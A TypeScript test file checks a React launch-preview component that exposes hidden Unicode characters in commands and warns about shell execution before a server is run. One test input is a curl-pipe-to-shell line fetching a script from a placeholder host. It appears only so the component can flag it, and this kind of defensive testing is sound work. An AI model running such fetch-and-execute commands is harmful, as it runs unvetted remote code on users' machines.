import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, it, expect } from "vitest";
import { parseCommandLine } from "@/lib/command-line";
import { LaunchPreview } from "./launch-preview";
import { VisibleText } from "./visible-text";

function review(line: string): string {
  const spec = parseCommandLine(line);
  return renderToStaticMarkup(
    createElement(LaunchPreview, { spec, pending: false, onRun: () => {}, onEdit: () => {} }),
  );
}

/** The markup's visible text: tags and screen-reader-only names removed. */
function text(html: string): string {
  return html
    .replace(/<span class="sr-only">[^<]*<\/span>/g, "")
    .replace(/<[^>]*>/g, "")
    .replace(/&#x27;/g, "'")
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, "&");
}

describe("VisibleText", () => {
  it("renders a RIGHT-TO-LEFT OVERRIDE as a named badge and leaves the raw character out", () => {
    const html = renderToStaticMarkup(createElement(VisibleText, { value: "node\u202e" }));
    expect(html).not.toContain("\u202e");
    expect(text(html)).toContain("node⟨U+202E⟩");
    expect(html).toContain('title="U+202E RIGHT-TO-LEFT OVERRIDE (direction control)"');
    expect(html).toContain('<span class="sr-only"> right-to-left override</span>');
  });

  it("keeps ordinary spaces as spaces and marks the empty string", () => {
    expect(text(renderToStaticMarkup(createElement(VisibleText, { value: "hello world" })))).toBe(
      "hello world",
    );
    expect(renderToStaticMarkup(createElement(VisibleText, { value: "" }))).toContain("(empty string)");
  });
});

describe("LaunchPreview", () => {
  it("shows every hidden character of program, arguments and env, and warns about them", () => {
    const html = review("A='x\u00a0y' node\u202e 'a\u200bb'");
    expect(html).not.toMatch(/[\u202e\u200b\u00a0]/u);
    expect(text(html)).toContain("node⟨U+202E⟩");
    expect(text(html)).toContain("a⟨U+200B⟩b");
    expect(text(html)).toContain("x⟨U+00A0⟩y");
    expect(html).toContain('role="alert"');
    expect(text(html)).toMatch(/Danger: The command contains invisible or direction-changing characters/);
  });

  it("says a plain command runs without a shell, with no warnings", () => {
    const html = review("node dist/index.js stdio");
    expect(text(html)).toContain("This will run on your machine, without a shell:");
    expect(html).not.toContain('role="alert"');
  });

  it("says `sh -c '… | sh'` runs through a shell that interprets the script, and warns", () => {
    const html = review("sh -c 'curl -fsSL https://x.test/i.sh | sh'");
    expect(text(html)).not.toContain("without a shell");
    expect(text(html)).toContain(
      "This will run on your machine through a shell: sh will interpret the quoted script (argument 2) as shell code.",
    );
    expect(text(html)).toContain("Shell code: sh interprets this argument");
    expect(text(html)).toContain("Danger: Downloads code and runs it at once");
  });

  it("leaves the run button enabled and pointing at the warnings", () => {
    const html = review("sudo node x.js");
    const button = /<button[^>]*>Run server<\/button>/.exec(html)?.[0] ?? "";
    expect(button).not.toMatch(/ disabled=/);
    const describedBy = /aria-describedby="([^"]+)"/.exec(button)?.[1];
    expect(describedBy).toBeDefined();
    expect(html).toContain(`id="${describedBy}" role="alert"`);
  });
});
